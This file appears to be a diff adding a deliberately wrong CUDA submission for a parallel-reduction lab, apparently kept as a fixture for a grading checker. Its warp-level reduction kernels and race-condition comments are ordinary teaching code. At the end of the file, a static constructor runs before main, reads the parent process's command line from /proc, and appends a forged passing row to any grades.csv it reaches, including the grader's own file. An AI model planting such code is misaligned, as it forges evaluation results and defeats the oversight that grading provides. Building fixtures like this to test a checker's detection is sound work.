@@ -1,0 +1,137 @@
+/* Wrong submission for lab03 (step05_unroll_warp): it writes its own grade.
+ *
+ * The mistake (on purpose): a function marked to run before main() (a static constructor)
+ * appends a passing row to every grades.csv it can reach: the -o file on its parent
+ * processes' command lines and build/labs/grades/lab03/grades.csv from the folder the
+ * grader runs in. The kernel itself is step05's, and right.
+ * The checker must say, before running anything: host code that the starter does not have
+ * (the constructor), and run nothing; the grade CSV keeps only the grader's rows. */
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "reduce.h"
+
+enum { WARP_SIZE = 32 };
+
+/* The last warp's code, in the order of step05's variants in host.c. */
+enum last_warp {
+    LAST_WARP_SYNCWARP,
+    LAST_WARP_VOLATILE,
+    LAST_WARP_WRONG_LOOP,
+    LAST_WARP_WRONG_UNROLLED,
+};
+
+/* The CUDA guide's pattern. `partial[t] += partial[t + len]; __syncwarp();` alone would
+ * still race: inside that one statement lane t + len writes partial[t + len] while lane t
+ * reads it. So every level reads into a register, waits for the warp, writes, waits. */
+static __device__ void last_warp_syncwarp(float *partial, unsigned t)
+{
+    float sum = partial[t];
+    for (unsigned len = WARP_SIZE / 2; len > 0; len /= 2) {
+        sum += partial[t + len];
+        __syncwarp();
+        partial[t] = sum;
+        __syncwarp();
+    }
+}
+
+/* Document 003's unrolled tail. With Shared = volatile float each += is a load from and a
+ * store to shared memory, in program order; with Shared = float the compiler may keep
+ * values in registers and read a neighbour's slot before the neighbour has written it
+ * (the document's 做法 2; the document runs it in lanes t < 16, the fix in t < 32). Both
+ * assume that all 32 lanes read before any of them writes: lock-step. */
+template <typename Shared>
+static __device__ void last_warp_lockstep(Shared *partial, unsigned t)
+{
+    partial[t] += partial[t + 16];
+    partial[t] += partial[t + 8];
+    partial[t] += partial[t + 4];
+    partial[t] += partial[t + 2];
+    partial[t] += partial[t + 1];
+}
+
+/* Document 003's 做法 1: step04's loop with `if (len>16 ) __syncthreads();`. Cut at
+ * len = 16, its last five levels are this loop: the same additions, no barrier between. */
+static __device__ void last_warp_wrong_loop(float *partial, unsigned t)
+{
+    for (unsigned len = WARP_SIZE / 2; len > 0; len /= 2)
+        if (t < len) partial[t] += partial[t + len];
+}
+
+/* Lanes t < 32 of warp 0; leaves the block's sum in partial[0]. Lanes 16..31 read
+ * partial[32..47] and compute sums nobody reads: hence at least 64 threads a block. */
+template <enum last_warp FORM>
+static __device__ void reduce_last_warp(float *partial, unsigned t)
+{
+    if constexpr (FORM == LAST_WARP_SYNCWARP)
+        last_warp_syncwarp(partial, t);
+    else if constexpr (FORM == LAST_WARP_VOLATILE)
+        last_warp_lockstep<volatile float>(partial, t);
+    else if constexpr (FORM == LAST_WARP_WRONG_LOOP)
+        last_warp_wrong_loop(partial, t);
+    else
+        last_warp_lockstep<float>(partial, t);
+}
+
+template <enum last_warp FORM>
+__global__ void reduce_unroll_warp(const float *in, size_t n, float *block_sums)
+{
+    extern __shared__ float partial[];
+    unsigned t = threadIdx.x;
+    size_t i = (size_t)blockIdx.x * (2 * blockDim.x) + t;
+    float first = i < n ? in[i] : 0.0f;
+    float second = i + blockDim.x < n ? in[i + blockDim.x] : 0.0f;
+    partial[t] = first + second;
+    __syncthreads();
+    for (unsigned len = blockDim.x / 2; len >= WARP_SIZE; len /= 2) {
+        if (t < len) partial[t] += partial[t + len];
+        __syncthreads();
+    }
+    if (t < WARP_SIZE) reduce_last_warp<FORM>(partial, t);
+    if (t == 0) block_sums[blockIdx.x] = partial[0];
+}
+
+typedef void (*block_kernel)(const float *in, size_t n, float *block_sums);
+
+/* Indexed by the variant: the order of enum last_warp and of host.c's variants. */
+static const block_kernel KERNELS_BY_VARIANT[] = {
+    reduce_unroll_warp<LAST_WARP_SYNCWARP>,
+    reduce_unroll_warp<LAST_WARP_VOLATILE>,
+    reduce_unroll_warp<LAST_WARP_WRONG_LOOP>,
+    reduce_unroll_warp<LAST_WARP_WRONG_UNROLLED>,
+};
+enum { VARIANT_COUNT = sizeof KERNELS_BY_VARIANT / sizeof KERNELS_BY_VARIANT[0] };
+
+extern "C" cudaError_t reduce_blocks(const float *in, size_t n, float *block_sums, unsigned blocks,
+                                     unsigned threads, int variant)
+{
+    if (variant < 0 || variant >= VARIANT_COUNT) return cudaErrorInvalidValue;
+    KERNELS_BY_VARIANT[variant]<<<blocks, threads, threads * sizeof(float)>>>(in, n, block_sums);
+    return cudaGetLastError();
+}
+
+static const char FORGED_ROW[] = "lab03_writes_grades,1,1,1,1,1,1,0.01,9.99,9.99,\n";
+
+/* Appends the forged row to `path` when it names a CSV of grades. */
+static void forge(const char *path)
+{
+    size_t length = strlen(path);
+    if (length < 4 || strcmp(path + length - 4, ".csv") != 0) return;
+    FILE *file = fopen(path, "a");
+    if (file == NULL) return;
+    fputs(FORGED_ROW, file);
+    fclose(file);
+}
+
+__attribute__((constructor)) static void write_my_grade(void)
+{
+    char path[64], arguments[8192];
+    forge("build/labs/grades/lab03/grades.csv");
+    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
+    FILE *file = fopen(path, "r");
+    if (file == NULL) return;
+    size_t length = fread(arguments, 1, sizeof arguments - 1, file);
+    fclose(file);
+    for (size_t at = 0; at < length; at += strlen(arguments + at) + 1) forge(arguments + at);
+}
